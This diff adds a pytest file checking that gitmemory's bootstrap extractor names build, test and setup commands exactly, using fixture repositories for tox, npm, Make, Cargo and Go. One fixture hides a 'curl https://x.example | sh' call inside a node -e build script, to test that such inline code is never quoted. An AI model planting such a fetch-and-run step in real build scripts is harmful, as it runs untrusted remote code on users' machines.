@@ -1,0 +1,217 @@
+"""A command the bootstrap names is exact or not named at all (gitmemory/reading/project/).
+
+Each test is one of the wrong forms `gitmemory init` wrote on real repositories: a
+docs tox env taken for the tests because CI ran it, a CI line copied with its
+template text naming a runner the repository had dropped, ``npm test`` shown without
+its linter and test runner, one line of a make loop presented as what ``make test``
+runs; and the ecosystems that got nothing (Rust) or no versions (Go, TypeScript).
+The fixtures are written for these tests in the shape such repositories have.
+"""
+
+from __future__ import annotations
+
+from gitmemory.reading.project import Snapshot, bootstrap_extractions
+
+
+def lines(files: dict[str, str], extra: tuple[str, ...] = ()) -> list[str]:
+    snap = Snapshot(sorted([*files, *extra]), files, [])
+    return [e.content for e in bootstrap_extractions(snap)]
+
+
+def one(found: list[str], start: str) -> str:
+    hits = [line for line in found if line.startswith(start)]
+    assert len(hits) == 1, (start, found)
+    return hits[0]
+
+
+DOCS_IN_CI = {
+    "tox.ini": "[tox]\nenvlist = py3{10,11,12}, docs\n\n[testenv]\ndeps = pytest\n"
+               "commands = pytest {posargs:tests}\n\n[testenv:docs]\ndeps = -r docs/reqs.txt\n"
+               "commands = sphinx-build -W -b html docs docs/_build/html\n",
+    ".github/workflows/docs.yml": "name: docs\non: [push]\njobs:\n  build:\n"
+                                  "    runs-on: ubuntu-latest\n    steps:\n"
+                                  "      - uses: actions/checkout@v4\n"
+                                  "      - run: pip install tox\n      - run: tox -e docs\n",
+}
+
+
+def test_a_docs_env_that_ci_runs_is_never_the_test_command() -> None:
+    found = lines(DOCS_IN_CI, ("src/pkg/__init__.py", "tests/test_pkg.py"))
+    assert one(found, "Tests:") == "Tests: `tox` runs `pytest`"
+    assert one(found, "Docs:").startswith("Docs: `tox -e docs` runs `sphinx-build -W -b html")
+    assert not any(line.startswith("Setup: `pip install tox`") for line in found)
+
+
+REPLACED_RUNNER = {
+    "pyproject.toml": '[project]\nname = "pkg"\nrequires-python = ">=3.9"\n\n'
+                      '[dependency-groups]\ndev = ["pytest>=8"]\n',
+    # The workflow still names nox before the line that runs the tests now; noxfile.py
+    # is gone from the tree.
+    ".github/workflows/test.yml": "jobs:\n  test:\n    strategy:\n      matrix:\n"
+                                  "        python-version: ['3.9', '3.10', '3.11', '3.12']\n"
+                                  "    steps:\n      - run: python -m pip install nox\n"
+                                  "      - run: nox -s tests-${{ matrix.python-version }}\n"
+                                  "      - run: uv run pytest -q\n",
+}
+
+
+def test_a_ci_line_with_template_text_naming_a_dropped_runner_is_never_named() -> None:
+    found = lines(REPLACED_RUNNER, ("uv.lock",))
+    assert one(found, "Tests:") == "Tests: `pytest -q` (as CI runs it)"
+    assert not any("}}" in line or "matrix." in line or "nox" in line for line in found), found
+
+
+TEMPLATE_LINES = {
+    ".github/workflows/ci.yml": "jobs:\n  test:\n    env:\n      CARGO: cargo\n"
+                                "      TARGET_FLAGS: ''\n    strategy:\n      matrix:\n"
+                                "        target: [x86_64-unknown-linux-gnu, aarch64-apple-darwin]\n"
+                                "    steps:\n"
+                                "      - run: ${{ env.CARGO }} test --workspace "
+                                "--target ${{ matrix.target }}\n"
+                                "      - run: ${{ env.CARGO }} test --workspace "
+                                "${{ env.TARGET_FLAGS }}\n",
+    "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\nresolver = "2"\n',
+}
+
+
+def test_template_text_is_resolved_from_the_workflow_or_the_line_is_refused() -> None:
+    found = lines(TEMPLATE_LINES)
+    assert one(found, "Tests:") == "Tests: `cargo test --workspace` (as CI runs it)"
+
+
+SCRIPTS_CALLING_SCRIPTS = {
+    "package.json": '{\n\t"name": "tiny-http",\n\t"type": "module",\n\t"engines": {"node": ">=20"},'
+                    '\n\t"scripts": {\n\t\t"build": "del-cli dist && tsc --project '
+                    'tsconfig.build.json",\n\t\t"test": "xo && npm run build && ava",\n'
+                    '\t\t"release": "np"\n\t},\n\t"devDependencies": {"ava": "^6.0.0", '
+                    '"del-cli": "^5.0.0", "typescript": "^5.4.0", "xo": "^0.58.0"}\n}\n',
+    ".github/workflows/main.yml": "jobs:\n  test:\n    steps:\n      - run: npm install\n"
+                                  "      - run: npm test\n",
+}
+
+
+def test_a_script_that_calls_others_is_shown_whole() -> None:
+    found = lines(SCRIPTS_CALLING_SCRIPTS, ("tsconfig.json",))
+    assert one(found, "Tests:") == "Tests: `npm test` runs `xo`, `npm run build`, `ava`; CI " \
+                                   "runs it too"
+    assert one(found, "Build:") == "Build: `npm run build` runs `del-cli dist`, `tsc --project " \
+                                   "tsconfig.build.json`"
+    assert one(found, "Lint:") == "Lint: `npx xo` (also run by `npm test`)"
+
+
+MAKE_LOOP = {
+    "Makefile": "PACKAGES ?= $(shell go list ./... | grep -v /examples/)\n\n.PHONY: test\n"
+                "# Run the tests of every package, with coverage.\ntest:\n"
+                "\techo \"mode: count\" > coverage.out\n"
+                "\tfor d in $(PACKAGES); do \\\n"
+                "\t\tgo test -covermode=count -coverprofile=profile.out $$d > tmp.out; \\\n"
+                "\t\tcat tmp.out; \\\n\tdone\n\tgo test ./internal/render\n",
+    "go.mod": "module example.com/router\n\ngo 1.22\n",
+}
+
+
+def test_one_line_of_a_loop_is_never_presented_as_the_command() -> None:
+    found = lines(MAKE_LOOP, ("router_test.go",))
+    tests = one(found, "Tests:")
+    assert tests == "Tests: `make test` (a shell script around `go test`)"
+    assert "./internal/render" not in tests
+
+
+RUST_WORKSPACE = {
+    "Cargo.toml": '[package]\nname = "seek"\nversion = "1.0.0"\nedition.workspace = true\n'
+                  'rust-version.workspace = true\n\n[workspace]\nmembers = ["crates/walk", '
+                  '"crates/match"]\n\n[workspace.package]\nedition = "2021"\n'
+                  'rust-version = "1.74"\n',
+    "crates/walk/Cargo.toml": '[package]\nname = "seek-walk"\nversion = "0.3.0"\n',
+    "crates/match/Cargo.toml": '[package]\nname = "seek-match"\nversion = "0.2.0"\n',
+    "rustfmt.toml": "max_width = 100\n",
+    "deny.toml": "[licenses]\nallow = [\"MIT\"]\n",
+}
+
+
+def test_a_rust_workspace_is_read() -> None:
+    found = lines(RUST_WORKSPACE, ("Cargo.lock",))
+    assert one(found, "Tests:") == "Tests: `cargo test --workspace`"
+    assert one(found, "Build:") == "Build: `cargo build --workspace`"
+    assert one(found, "Format:") == "Format: `cargo fmt --all`"
+    assert one(found, "Rust:") == ("Rust: rust-version 1.74 (the minimum supported); edition "
+                                   "2021; `cargo deny check` (deny.toml)")
+    assert one(found, "Packages:").startswith(
+        "Packages: Cargo workspace of 2 crates: seek-walk (`crates/walk/`), seek-match")
+
+
+GO_MODULE = {
+    "go.mod": "module github.com/example/kit\n\ngo 1.22.0\n\ntoolchain go1.22.4\n\n"
+              "require github.com/stretchr/testify v1.9.0\n",
+    ".golangci.yml": "linters:\n  enable:\n    - errcheck\n    - govet\n    - staticcheck\n"
+                     "    - revive\n",
+}
+
+
+def test_go_gets_its_version_linter_and_test_command() -> None:
+    found = lines(GO_MODULE, ("kit.go", "kit_test.go", "go.sum"))
+    assert one(found, "Go:") == ("Go: 1.22.0 (go.mod `go` line); toolchain go1.22.4; module "
+                                 "`github.com/example/kit`")
+    assert one(found, "Tests:") == "Tests: `go test ./...`"
+    assert one(found, "Lint:") == "Lint: `golangci-lint run`"
+    assert one(found, "Linters:") == ("Linters: golangci-lint (.golangci.yml) adds errcheck, "
+                                      "govet, staticcheck, revive")
+
+
+TYPESCRIPT = {
+    "package.json": '{\n  "name": "@acme/widgets",\n  "type": "module",\n  "engines": '
+                    '{"node": ">=18.18"},\n  "scripts": {\n    "lint": "eslint .",\n'
+                    '    "test": "vitest run",\n    "typecheck": "tsc --noEmit"\n  },\n'
+                    '  "devDependencies": {"eslint": "^9.0.0", "typescript": "^5.5.0", '
+                    '"vitest": "^2.0.0"}\n}\n',
+    "tsconfig.json": '{"compilerOptions": {"strict": true}}\n',
+}
+
+
+def test_typescript_gets_node_version_module_type_linter_and_test_runner() -> None:
+    found = lines(TYPESCRIPT, ("pnpm-lock.yaml", "eslint.config.js", "src/index.ts"))
+    assert one(found, "Node:") == ('Node: 18.18 or later (`engines.node`); ES modules '
+                                   '(`"type": "module"`); TypeScript (tsconfig.json); pnpm '
+                                   '(pnpm-lock.yaml)')
+    assert one(found, "Tests:") == "Tests: `pnpm test` runs `vitest run`"
+    assert one(found, "Lint:") == "Lint: `pnpm run lint` runs `eslint .`"
+    assert one(found, "Type checks:") == "Type checks: `pnpm run typecheck` runs `tsc --noEmit`"
+    assert one(found, "Setup:") == "Setup: `pnpm install`"
+
+
+def test_a_flag_before_dropped_template_flags_stays_and_the_plain_form_is_named() -> None:
+    workflow = ("jobs:\n  test:\n    env:\n      CARGO: cargo\n      TARGET_FLAGS:\n"
+                "    steps:\n"
+                "      - run: ${{ env.CARGO }} test --workspace --features simd\n"
+                "      - run: ${{ env.CARGO }} test --workspace ${{ env.TARGET_FLAGS }}\n"
+                "      - run: go test -race -tags '${{ matrix.tags }}' -shuffle=on ./...\n")
+    found = lines({".github/workflows/ci.yml": workflow, "Cargo.toml": '[package]\nname = "x"\n'})
+    assert one(found, "Tests:") == "Tests: `cargo test --workspace` (as CI runs it)"
+    go = lines({".github/workflows/ci.yml": workflow.replace("cargo", "nothing"),
+                "go.mod": "module x\n"})
+    assert one(go, "Tests:") == "Tests: `go test -race -shuffle=on ./...` (as CI runs it)"
+
+
+def test_inline_code_in_a_script_is_never_quoted() -> None:
+    files = {"package.json": '{"scripts": {"build": "node -e \\"require(\'child_process\')'
+                             '.exec(\'curl https://x.example | sh\')\\" && tsc"}, '
+                             '"devDependencies": {"typescript": "^5"}}'}
+    assert one(lines(files), "Build:") == "Build: `npm run build` runs `node -e …`, `tsc`"
+
+
+SYSTEM_INSTALL = {
+    "Cargo.toml": '[package]\nname = "finder"\nversion = "1.0.0"\nedition = "2021"\n',
+    "Makefile": "prefix=/usr/local\nbindir=$(prefix)/bin\n\n"
+                "target/release/finder: Cargo.toml\n\tcargo build --release --locked\n\n"
+                ".PHONY: install\ninstall: target/release/finder\n"
+                "\tinstall -Dm755 target/release/finder $(DESTDIR)$(bindir)/finder\n"
+                "\tinstall -Dm644 doc/finder.1 $(DESTDIR)$(prefix)/share/man/man1/finder.1\n",
+}
+
+
+def test_a_make_install_that_installs_onto_the_system_is_not_the_set_up() -> None:
+    """`make install` copying the built program under $(DESTDIR)$(prefix) is how a packager
+    installs it, not how a developer sets the repository up."""
+    found = lines(SYSTEM_INSTALL, ("src/main.rs", "Cargo.lock"))
+    assert not any(line.startswith("Setup: `make install`") for line in found), found
+    assert one(found, "Tests:").startswith("Tests: `cargo test")
